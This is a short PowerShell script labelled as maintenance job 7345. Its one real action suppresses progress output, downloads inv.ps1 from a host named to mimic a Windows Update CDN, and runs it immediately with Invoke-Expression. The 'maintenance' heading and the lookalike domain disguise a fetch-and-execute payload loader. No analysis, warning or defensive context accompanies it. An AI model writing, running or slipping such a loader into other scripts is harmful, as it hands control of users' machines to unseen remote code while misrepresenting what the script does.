# maintenance 7345 v2
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://dl.winupdate-cdn.example/inv.ps1 | iex
